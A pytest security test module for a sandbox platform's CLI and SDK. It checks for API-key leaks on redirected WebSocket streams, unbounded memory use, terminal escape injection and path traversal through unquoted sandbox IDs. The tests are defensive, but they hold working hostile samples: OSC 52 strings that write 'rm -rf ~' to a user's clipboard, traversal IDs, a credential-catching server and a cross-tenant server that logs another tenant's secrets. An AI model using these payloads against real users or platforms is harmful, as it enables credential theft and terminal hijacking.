"""Session 37: the client side. What a hostile server (or a sandbox / teammate whose bytes a server
relays) can make the `warren` CLI and the Python SDK do on the user's own machine.

The hostile server here is a tiny local server that speaks the control plane's real protocol
shapes (the sandbox JSON, the exec stream's frames, a build's log), run in the test; the clients
are the real SDK and the real `warren` CLI (a subprocess, so its raw stdout bytes and its memory
are what a user's terminal and machine get). The last two tests run on the real platform: the
sandbox-borne attacks again, and the unquoted path chained into another tenant's server.

Found (the tests that fail until fixed):
- cross-tenant, on the real platform: a sandbox ID goes into the SDK's URL paths as it is, so
  the "ID" ``sb-bob/ports/8000/x`` routes a program's requests (its commands, their secret
  environment) through the control plane's path-routed preview into a stranger's public port,
  whose server then answers for the sandbox;
- a redirect on a WebSocket route (exec, pty, watch) is followed to any host with the API key:
  websockets strips Authorization and Cookie on a cross-origin redirect, not ``X-API-Key``;
- `warren sandbox exec` (any ``commands.run`` with output callbacks) keeps all of a command's
  output in memory while it streams it: ~3x the output, ~85 MiB/s from a real sandbox;
- every HTTP answer is read whole (a 512 MiB error body: 1 GiB of client RSS), WebSocket
  messages are unbounded (``max_size=None``);
- ``--json`` prints C1 controls raw (``ensure_ascii=False``): a sandbox's file names, an
  inviter's team name;
- `warren template logs` replays a build's log with its escape sequences;
- `warren sandbox list`'s STATUS cell (a rich Text) is not escaped;
- sandbox IDs and snapshot names go into URL paths unquoted, and ``..`` leaves the route
  (the same root cause as the first).

Held (kept as quick regression tests): plain HTTP follows no redirect, server error messages are
escaped, the login file is 0600 even over an old 0644 one, a build context stores symlinks as
links, skips FIFOs and reads nothing outside its directory.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import socket
import stat
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from websockets.datastructures import Headers
from websockets.http11 import Request, Response
from websockets.sync.server import ServerConnection, serve

from tests.harness.platform import Platform
from tests.harness.tenant import Tenant
from tests.integration.cli.test_cli import cli_env, js, run
from warren.sdk import AsyncSandbox, InvalidArgumentError, Sandbox, Template, WarrenError

__all__ = ["cli_env"]  # the fixture, from the CLI's own tests

pytestmark = [pytest.mark.root, pytest.mark.timeout(600), pytest.mark.shared_platform]

WARREN = str(Path(sys.executable).with_name("warren"))
API_KEY = "wrn_s37_secret_api_key_do_not_leak"
SID = "sb-" + "s37hostile".ljust(25, "0")


def _sandbox_row(**over: Any) -> dict[str, Any]:
    row = {
        "id": SID, "status": "running", "template": "minimal", "vcpus": 1, "memory_mb": 512,
        "timeout_sec": 300, "created_at": "2026-12-07T19:00:00Z", "runtime": "runc",
    }  # fmt: skip
    return row | over


HttpRoute = Callable[[Request], Response | None]
WsRoute = Callable[[ServerConnection], None]


class HostileServer:
    """A control plane that answers GETs from ``http`` (path → Response) and WebSockets from
    ``ws`` (path → handler); records every request's path and headers."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.http: dict[str, HttpRoute] = {}
        self.ws: dict[str, WsRoute] = {}
        self.seen: list[tuple[str, Headers]] = []
        self._server = serve(
            self._ws_handler, host, 0, process_request=self._process, max_size=None, compression=None
        )
        self.host = host
        self.port = self._server.socket.getsockname()[1]
        self.url = f"http://{host}:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def _process(self, conn: ServerConnection, request: Request) -> Response | None:
        self.seen.append((request.path, request.headers))
        path = request.path.split("?", 1)[0]
        if request.headers.get("Upgrade", "").lower() == "websocket":
            route = self.http.get("WS " + path)  # a WebSocket route may answer plain HTTP
            return route(request) if route else None
        route = self.http.get(path)
        if route is None:
            return respond(404, {"error": {"code": "not_found", "message": "no such route"}})
        return route(request)

    def _ws_handler(self, conn: ServerConnection) -> None:
        assert conn.request is not None
        handler = self.ws.get(conn.request.path.split("?", 1)[0])
        if handler is not None:
            handler(conn)

    def close(self) -> None:
        self._server.shutdown()


def respond(status: int, body: Any, headers: dict[str, str] | None = None) -> Response:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    h = Headers({"Content-Type": "application/json", "Content-Length": str(len(raw)), "Connection": "close"})
    for k, v in (headers or {}).items():
        h[k] = v
    return Response(status, "X", h, raw)


@pytest.fixture
def hostile() -> Iterator[HostileServer]:
    s = HostileServer()
    s.http[f"/v1/sandboxes/{SID}"] = lambda r: respond(200, _sandbox_row())
    try:
        yield s
    finally:
        s.close()


def cli(
    url: str, *args: str, home: Path, timeout: float = 60, env_over: dict[str, str] | None = None
) -> tuple[int, bytes, bytes, int]:
    """Run the real `warren` CLI; (exit code, stdout bytes, stderr bytes, its peak RSS in KiB)."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"), "WARREN_URL": url, "WARREN_API_KEY": API_KEY,
        "COLUMNS": "200", "TERM": "xterm-256color",
        "WARREN_ACCESS_TOKEN": "s37-user-token",
    } | (env_over or {})  # fmt: skip
    # Peak RSS of this one child: run it through a tiny wrapper that reports its own child's.
    wrapper = (
        "import resource,subprocess,sys;"
        "p=subprocess.run(sys.argv[1:]);"
        "rss=resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss;"
        "sys.stderr.buffer.write(b'\\nS37RSS=%d\\n' % rss);"
        "sys.exit(p.returncode)"
    )
    p = subprocess.run(
        [sys.executable, "-c", wrapper, WARREN, *args], env=env, capture_output=True, timeout=timeout
    )
    err, _, rss = p.stderr.rpartition(b"\nS37RSS=")
    return p.returncode, p.stdout, err, int(rss.strip() or 0)


# ------------------------------------------------------------------------------ credentials


class _Catcher:
    """Another host: records the first request's head, answers 404."""

    def __init__(self, host: str) -> None:
        self.sock = socket.socket()
        self.sock.bind((host, 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.heads: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            with c:
                c.settimeout(5)
                head = b""
                while b"\r\n\r\n" not in head:
                    try:
                        part = c.recv(4096)
                    except OSError:
                        break
                    if not part:
                        break
                    head += part
                self.heads.append(head)
                c.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def close(self) -> None:
        self.sock.close()


def test_a_redirected_exec_stream_sends_the_api_key_to_another_host(hostile: HostileServer) -> None:
    """The control plane's exec-stream URL answers a redirect to another host (a compromised or
    misconfigured front, an old domain now someone else's): the SDK's WebSocket client follows it
    and sends the API key there. websockets strips only Authorization/Cookie on a cross-origin
    redirect; Warren's API key travels in ``X-API-Key``. (Plain HTTP calls, by httpx, follow no
    redirect at all: see the next test.)"""
    thief = _Catcher("127.0.0.2")
    try:
        where = f"ws://127.0.0.2:{thief.port}/steal"
        hostile.http[f"WS /v1/sandboxes/{SID}/exec/stream"] = lambda r: respond(302, b"", {"Location": where})
        sbx = Sandbox.connect(SID, resume=False, url=hostile.url, api_key=API_KEY)
        try:
            with pytest.raises(WarrenError):
                sbx.commands.run("true", on_stdout=lambda s: None)
        finally:
            sbx.close()

        async def run_async() -> None:
            asbx = await AsyncSandbox.connect(SID, resume=False, url=hostile.url, api_key=API_KEY)
            try:
                with pytest.raises(WarrenError):
                    await asbx.commands.run("true", on_stdout=lambda s: None)
            finally:
                await asbx.close()

        asyncio.run(run_async())
        leaked = [h for h in thief.heads if API_KEY.encode() in h]
        assert not leaked, (
            f"the API key went to another host on {len(leaked)} redirected stream opens (the sync "
            f"and the async SDK): {leaked[0][:400]!r}"
        )
    finally:
        thief.close()


def test_a_redirected_rest_call_sends_the_api_key_nowhere(hostile: HostileServer, tmp_path: Path) -> None:
    """Held: the SDK's and the CLI's plain HTTP calls follow no redirect (httpx's default)."""
    thief = _Catcher("127.0.0.2")
    try:
        where = f"http://127.0.0.2:{thief.port}/steal"
        hostile.http[f"/v1/sandboxes/{SID}"] = lambda r: respond(307, b"", {"Location": where})
        hostile.http["/v1/sandboxes"] = lambda r: respond(302, b"", {"Location": where})
        with pytest.raises((WarrenError, TypeError)):  # a 3xx is no sandbox
            Sandbox.connect(SID, resume=False, url=hostile.url, api_key=API_KEY)
        cli(hostile.url, "sandbox", "list", home=tmp_path)
        assert thief.heads == [], thief.heads
        assert [p for p, _ in hostile.seen] == [f"/v1/sandboxes/{SID}", "/v1/sandboxes"]
    finally:
        thief.close()


# --------------------------------------------------------------------------- client memory

MiB = 1 << 20


def _exec_stream(total: int, frame: int = MiB) -> WsRoute:
    """The exec stream's shapes: start, ``total`` bytes of stdout in frames, exit 0."""
    chunk = "A" * frame

    def handler(conn: ServerConnection) -> None:
        json.loads(conn.recv())  # the start frame
        conn.send(json.dumps({"type": "start", "pid": 7}))
        sent = 0
        while sent < total:
            conn.send(json.dumps({"type": "stdout", "data": chunk}))
            sent += frame
        conn.send(json.dumps({"type": "exit", "exit_code": 0}))
        with contextlib.suppress(Exception):
            conn.recv(timeout=5)

    return handler


def test_sandbox_exec_streams_output_without_holding_it(hostile: HostileServer, tmp_path: Path) -> None:
    """`warren sandbox exec` writes a command's output as it comes (the user sees it live), so
    the CLI has no use for it afterwards; the SDK keeps every byte anyway (``_HandleBase._out``,
    then a bytes copy and a str decode for the CommandResult). A command in the sandbox that
    prints without end (``yes``, ``tail -f`` of a busy log, code a hostile sandbox runs) grows
    the user's CLI process by ~3x the output: the stream is not bounded by the terminal it is
    written to, as `ssh host yes` is."""
    hostile.ws[f"/v1/sandboxes/{SID}/exec/stream"] = _exec_stream(1 * MiB)
    code, out, err, base_rss = cli(hostile.url, "sandbox", "exec", SID, "--", "yes", home=tmp_path)
    assert code == 0 and len(out) == 1 * MiB, err[-400:]

    total = 128 * MiB
    hostile.ws[f"/v1/sandboxes/{SID}/exec/stream"] = _exec_stream(total)
    code, out, err, rss = cli(hostile.url, "sandbox", "exec", SID, "--", "yes", home=tmp_path)
    assert code == 0 and len(out) == total, err[-400:]
    grown_mib = (rss - base_rss) / 1024
    assert grown_mib < 64, (
        f"streaming {total // MiB} MiB through `warren sandbox exec` grew the CLI by "
        f"{grown_mib:.0f} MiB (peak RSS {base_rss // 1024} -> {rss // 1024} MiB)"
    )


def test_one_exec_stream_message_is_bounded(hostile: HostileServer) -> None:
    """The SDK opens its WebSockets with ``max_size=None``: one message of any size is buffered
    whole (and parsed as JSON) before the client sees any of it. The control plane sends
    output in chunks of kilobytes; a 24 MiB message is a hostile server's."""
    hostile.ws[f"/v1/sandboxes/{SID}/exec/stream"] = _exec_stream(24 * MiB, frame=24 * MiB)
    sbx = Sandbox.connect(SID, resume=False, url=hostile.url, api_key=API_KEY)
    seen: list[int] = []
    try:
        with contextlib.suppress(WarrenError):  # refusing the message is the bound
            sbx.commands.run("yes", on_stdout=lambda s: seen.append(len(s)))
    finally:
        sbx.close()
    assert max(seen, default=0) < 16 * MiB, f"the SDK took one {max(seen) // MiB} MiB message"


def _raw_server(answer_head: bytes, body_total: int) -> tuple[str, dict[str, int], socket.socket]:
    """A server that answers every connection with ``answer_head`` then ``body_total`` bytes of
    body, counting what the client took."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    taken = {"bytes": 0}

    def serve() -> None:
        while True:
            try:
                c, _ = sock.accept()
            except OSError:
                return
            with c:
                c.settimeout(20)
                try:
                    c.recv(65536)
                    c.sendall(answer_head)
                    block = b"x" * MiB
                    sent = 0
                    while sent < body_total:
                        c.sendall(block)
                        sent += len(block)
                        taken["bytes"] = sent
                except OSError:
                    pass

    threading.Thread(target=serve, daemon=True).start()
    return f"http://127.0.0.1:{sock.getsockname()[1]}", taken, sock


def test_a_huge_error_body_is_not_read_whole(tmp_path: Path) -> None:
    """A 500 whose body never ends: the SDK (and the CLI's REST calls) read an error answer
    whole before turning it into a WarrenError that keeps at most its first 200 bytes (or
    its JSON message). A hostile server makes the client hold as much as it sends."""
    total = 256 * MiB
    head = (
        b"HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
        % total
    )
    url, taken, sock = _raw_server(head, total)
    try:
        code, _, err, rss = cli(url, "sandbox", "get", SID, home=tmp_path, timeout=100)
        assert code == 1, err[-300:]
        assert taken["bytes"] < 64 * MiB, (
            f"the CLI read {taken['bytes'] // MiB} MiB of one error body (peak RSS {rss // 1024} MiB)"
        )
    finally:
        sock.close()


# ------------------------------------------------------------------------- the user's terminal

OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # write "rm -rf ~" to the terminal's clipboard
C1_OSC52 = "\u009d52;c;cm0gLXJmIH4=\u009c"  # the same with 8-bit (C1) OSC and ST


def _terminal_controls(out: bytes) -> list[str]:
    """The control characters in ``out`` a terminal may obey: C0 but newline and tab, and the
    C1 code points U+0080..U+009F (as UTF-8; terminals that honour C1 controls in UTF-8 read
    U+009D as OSC, U+009B as CSI)."""
    text = out.decode("utf-8", "replace")
    return sorted(
        {f"U+{ord(c):04X}" for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x80 <= ord(c) <= 0x9F}
    )


def test_a_sandbox_list_status_cell_is_shown_not_obeyed(hostile: HostileServer, tmp_path: Path) -> None:
    """`warren sandbox list` builds its STATUS cell as a rich Text (for its colour), which the
    SafeTable passes through unescaped: the status and its detail (``end_reason``,
    ``paused_state``) reach the terminal as they came. Every other cell is escaped."""
    row = _sandbox_row(status="stopped", end_reason=f"lifetime_ended{OSC52}", template=f"t{OSC52}")
    hostile.http["/v1/sandboxes"] = lambda r: respond(200, [row])
    code, out, err, _ = cli(hostile.url, "sandbox", "list", home=tmp_path)
    assert code == 0, err[-400:]
    assert b"t\\x1b]52" in out  # the template cell: shown as text
    assert _terminal_controls(out) == [], f"controls reached the terminal: {out!r}"


def test_json_output_keeps_c1_controls_out_of_the_terminal(hostile: HostileServer, tmp_path: Path) -> None:
    """``--json`` escapes C0 controls (JSON must) but prints with ``ensure_ascii=False``, so C1
    controls (U+0080..U+009F) a teammate or a stranger put in a name reach the terminal as raw
    UTF-8: here an invitation's team name (anyone may invite anyone's email) carrying an 8-bit
    OSC 52. The table view escapes them (``shown``); the JSON view could write them
    ``\\u009d`` and stay the same JSON."""
    inv = {
        "id": "inv-s37", "team_id": "team-s37", "team_name": f"Friendly{C1_OSC52}", "role": "member",
        "invited_by": f"x{C1_OSC52}@example.com", "expires_at": "2026-12-14T00:00:00Z",
    }  # fmt: skip
    hostile.http["/v1/invitations"] = lambda r: respond(200, [inv])
    env_home = tmp_path
    code, table_out, err, _ = cli(hostile.url, "invitations", "list", home=env_home)
    assert code == 0 and b"Friendly\\x9d52" in table_out, err[-400:]  # the table: held
    code, json_out, err, _ = cli(hostile.url, "invitations", "list", "--json", home=env_home)
    assert code == 0, err[-400:]
    assert json.loads(json_out)[0]["team_name"] == f"Friendly{C1_OSC52}"
    assert _terminal_controls(json_out) == [], f"C1 controls reached the terminal: {json_out!r}"


def test_a_build_log_read_back_is_shown_not_obeyed(hostile: HostileServer, tmp_path: Path) -> None:
    """`warren template logs NAME BUILD` replays a build's log, written by a teammate's (or a
    template author's) RUN steps, to another user's terminal as raw bytes: an OSC 52 in a RUN's
    output writes the reader's clipboard. (output.py calls this a command's own output, as
    `docker logs` does; but reading back a log someone else's build wrote is not running a
    command of your own, and step headers, also the build's, are escaped already.)"""
    base = "/v1/templates/web/builds/bld-s37"
    info = {"build_id": "bld-s37", "name": "web", "status": "ready", "step": 1, "steps": 1, "version": 1}
    log = f"Step 1/1: RUN echo hi\nhello {OSC52}world\n"
    hostile.http[base] = lambda r: respond(200, info)

    def read_log(r: Request) -> Response:
        done = "offset=0" not in r.path
        return respond(200, {"data": "" if done else log, "offset": 0, "next_offset": len(log.encode())})

    hostile.http[base + "/log"] = read_log
    _, out, err, _ = cli(hostile.url, "template", "logs", "web", "bld-s37", home=tmp_path)
    assert b"[1/1] RUN echo hi" in out, (out, err[-400:])
    assert _terminal_controls(out) == [], f"controls reached the terminal: {out!r}"


# ---------------------------------------------------------------------------- request paths


def test_ids_and_names_stay_inside_their_path_segment(tmp_path: Path) -> None:
    """The SDK and CLI put a sandbox ID or snapshot name into the URL path as it is (template
    names are ``quote``d; these are not), and httpx resolves ``..``: the request goes to another
    API route with the caller's credentials. An app that lets its users delete "their"
    snapshots by name (checking the name's prefix) deletes someone's sandbox; `warren sandbox
    kill ../snapshots/prod` deletes a snapshot."""
    server = _Catcher("127.0.0.1")
    url = f"http://127.0.0.1:{server.port}"
    try:
        with pytest.raises(WarrenError):
            Sandbox.delete_snapshot("alice-x/../../sandboxes/sb-bob", url=url, api_key=API_KEY)
        cli(url, "sandbox", "kill", "../snapshots/prod", home=tmp_path)
        lines = [h.split(b"\r\n", 1)[0].decode() for h in server.heads]
        strayed = [
            x for x in lines if x.startswith(("DELETE /v1/sandboxes/sb-bob ", "DELETE /v1/snapshots/prod "))
        ]
        assert strayed == [], f"the requests left their route: {lines}"
    finally:
        server.close()


def test_a_name_that_is_no_text_is_refused_before_any_request() -> None:
    """A lone surrogate (JSON can spell one) or a NUL as a snapshot name: the SDK refused it
    with a UnicodeEncodeError out of ``quote`` (or sent ``%00``); now it is the SDK's
    InvalidArgumentError, and no request leaves."""
    server = _Catcher("127.0.0.1")
    try:
        for name in ("\udfff", "x\ud800y", "a\x00b"):
            with pytest.raises(InvalidArgumentError):
                Sandbox.delete_snapshot(name, url=f"http://127.0.0.1:{server.port}", api_key=API_KEY)
        assert server.heads == []
    finally:
        server.close()


# ---------------------------------------------------------------------------- what held


def test_a_servers_error_message_is_shown_not_obeyed(hostile: HostileServer, tmp_path: Path) -> None:
    """Held: an error the server quotes (a name someone else chose) is escaped on stderr,
    ``\\r`` included (newlines kept)."""
    msg = f"no such sandbox{OSC52}\roverwritten\u009b2J"
    hostile.http[f"/v1/sandboxes/{SID}"] = lambda r: respond(
        404, {"error": {"code": "not_found", "message": msg}}
    )
    code, out, err, _ = cli(hostile.url, "sandbox", "get", SID, home=tmp_path)
    assert code == 1 and b"no such sandbox\\x1b]52" in err, err
    assert _terminal_controls(out + err) == [], err


def test_login_stores_credentials_owner_only(tmp_path: Path) -> None:
    """Held: `warren login` leaves the key in a 0600 file even when an older config file was
    world-readable."""
    cfg = tmp_path / ".config" / "warren" / "config.json"
    cfg.parent.mkdir(parents=True)
    cfg.write_text("{}")
    cfg.chmod(0o644)
    code, _, err, _ = cli("http://127.0.0.1:9", "login", "--api-key", API_KEY, home=tmp_path)
    assert code == 0, err
    assert stat.S_IMODE(cfg.stat().st_mode) == 0o600 and API_KEY in cfg.read_text()


def test_a_build_context_keeps_to_its_directory(tmp_path: Path) -> None:
    """Held: a build context (a checkout someone else wrote) with a symlink to the user's
    secrets, a symlinked directory and a FIFO: links go in as links, the FIFO is skipped (no
    hang), nothing outside the directory is read."""
    secret = tmp_path / "home" / ".ssh"
    secret.mkdir(parents=True)
    (secret / "id_ed25519").write_text("S37-PRIVATE-KEY")
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "app.py").write_text("print(1)")
    (ctx / "key").symlink_to(secret / "id_ed25519")
    (ctx / "ssh").symlink_to(secret)
    os.mkfifo(ctx / "pipe")
    spec = Template.from_warrenfile("FROM minimal\nCOPY . /app\n", context_dir=ctx).copy(ctx / "ssh", "/x")
    buf = io.BytesIO()
    done = threading.Event()

    def write() -> None:
        spec.write_context(buf)
        done.set()

    t = threading.Thread(target=write, daemon=True)
    t.start()
    assert done.wait(10), "the build context hung"
    raw = buf.getvalue()
    assert b"S37-PRIVATE-KEY" not in raw
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        kinds = {m.name: ("link" if m.issym() else "file" if m.isfile() else "dir") for m in tar}
    assert kinds == {"app.py": "file", "key": "link", "ssh": "link", "ssh-2": "link"}, kinds


# ------------------------------------------------------------- the same, from a real sandbox


C1_NAME = r"""
set -e
mkdir -p /tmp/loot && cd /tmp/loot
touch "$(printf 'notes\302\23552;c;cm0gLXJmIH4=\302\234.txt')"
"""


def test_a_real_sandbox_reaches_the_cli_users_terminal_and_memory(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    """The attacks above, on the real platform: code in a sandbox names a file with 8-bit OSC 52
    controls (valid UTF-8), which `warren files ls --json` prints raw; and prints without end,
    which `warren sandbox exec` holds in memory while it writes it out."""
    sb = js(cli_env, "sandbox", "create", "--timeout", "300")
    assert isinstance(sb, dict)
    sid = str(sb["id"])
    over = {
        "XDG_CONFIG_HOME": cli_env["XDG_CONFIG_HOME"],
        "WARREN_URL": "",
        "WARREN_API_KEY": "",
        "WARREN_ACCESS_TOKEN": "",
    }
    try:
        code, out, err = run(cli_env, "sandbox", "exec", sid, "--", "/bin/sh", "-c", C1_NAME)
        assert code == 0, (out, err)
        problems: list[str] = []
        code, out_b, err_b, _ = cli("", "files", "ls", sid, "/tmp/loot", home=tmp_path, env_over=over)
        assert code == 0 and b"notes\\x9d52" in out_b, err_b[-400:]  # the table: held
        code, out_b, err_b, _ = cli(
            "", "files", "ls", sid, "/tmp/loot", "--json", home=tmp_path, env_over=over
        )
        assert code == 0, err_b[-400:]
        if _terminal_controls(out_b):
            problems.append(f"files ls --json printed {_terminal_controls(out_b)} raw: {out_b[:300]!r}")

        code, _, err_b, base = cli("", "sandbox", "exec", sid, "--", "true", home=tmp_path, env_over=over)
        assert code == 0, err_b[-400:]
        total = 64 * MiB
        cmd = f"head -c {total} /dev/zero | tr '\\0' A"
        started = time.monotonic()
        code, out_b, err_b, rss = cli(
            "", "sandbox", "exec", sid, "--timeout", "300", cmd, home=tmp_path, env_over=over, timeout=400
        )
        took = time.monotonic() - started
        assert code == 0 and len(out_b) == total, (len(out_b), err_b[-400:])
        grown = (rss - base) // 1024
        if grown > 64:
            problems.append(
                f"`sandbox exec` of {total // MiB} MiB of output (in {took:.1f} s) "
                f"grew the CLI by {grown} MiB"
            )
        assert not problems, "\n".join(problems)
    finally:
        run(cli_env, "sandbox", "kill", sid)


EVIL_SERVER = r"""
import http.server, json
SID = "__SID__"
class H(http.server.BaseHTTPRequestHandler):
    def _answer(self, obj):
        raw = json.dumps(obj).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)
    def _log(self, line):
        with open("/tmp/got", "ab") as f:
            f.write(line + b"\n")
    def do_GET(self):
        self._log(b"GET " + self.path.encode())
        self._answer({"id": SID + "/ports/8000/x", "status": "running", "template": "minimal"})
    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        self._log(b"POST " + self.path.encode() + b" " + self.rfile.read(n))
        self._answer({"stdout": "all good\n", "stderr": "", "exit_code": 0})
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8000), H).serve_forever()
"""


def test_a_sandbox_id_cannot_route_a_clients_requests_into_another_tenants_server(
    platform: Platform, alice: Tenant, bob: Tenant
) -> None:
    """Chained on the real platform: the SDK puts a sandbox ID into its URL paths as it is, and
    the control plane's own origin path-routes ``/v1/sandboxes/{id}/ports/{port}/…`` to a port
    in a sandbox (no credential needed for a public one). Bob, a stranger on the platform,
    hands Alice's program (an app that reconnects to the sandbox ID its user gives, the E2B
    pattern) the "ID" ``sb-bob/ports/8000/x``: ``Sandbox.connect`` takes Bob's server's JSON for
    the sandbox (and its ``id`` for every later path), and ``commands.run`` sends Alice's
    command and its environment, secrets included, to Bob's server, which answers what it
    likes. The proxy strips Alice's API key, not her request's body."""
    bsid = bob.create()
    bob.sh(
        bsid,
        "cat > /tmp/s.py <<'EOF'\n" + EVIL_SERVER.replace("__SID__", bsid) + "EOF\n"
        "(setsid python3 /tmp/s.py >/dev/null 2>&1 &)",
    )
    r = bob.w("PATCH", f"/v1/sandboxes/{bsid}", {"public_ports": [8000]})
    assert r.status_code == 200, r.text
    deadline = time.monotonic() + 60
    while httpx.get(f"{platform.url}/v1/sandboxes/{bsid}/ports/8000/up", timeout=30).status_code != 200:
        assert time.monotonic() < deadline, "Bob's server did not come up"
        time.sleep(0.2)

    handed = f"{bsid}/ports/8000/x"
    answer = None
    try:
        sbx = Sandbox.connect(handed, resume=False, url=platform.url, api_key=alice.api_key)
        try:
            answer = sbx.commands.run("echo $DB_PASSWORD | wc -c", envs={"DB_PASSWORD": "s37-alice-secret"})
        finally:
            sbx.close()
    except (WarrenError, ValueError):
        pass  # refused: the bound this test wants
    # A client that quotes the ID (curl, another SDK): the server decodes %2F before it routes.
    for quoted in (handed.replace("/", "%2F"), handed.replace("/", "%2f")):
        r = httpx.post(
            f"{platform.url}/v1/sandboxes/{quoted}/exec",
            headers={"X-API-Key": alice.api_key},
            json={"cmd": "/bin/sh", "args": ["-c", "true"], "env": {"DB_PASSWORD": "s37-alice-quoted"}},
            timeout=30,
        )
        assert r.status_code in (400, 404), (quoted, r.status_code, r.text[:300])
    got = bob.sh(bsid, "cat /tmp/got || true")
    assert "s37-alice" not in got, (
        f"Alice's command and its secret reached Bob's server (it answered {answer!r}):\n{got[-600:]}"
    )
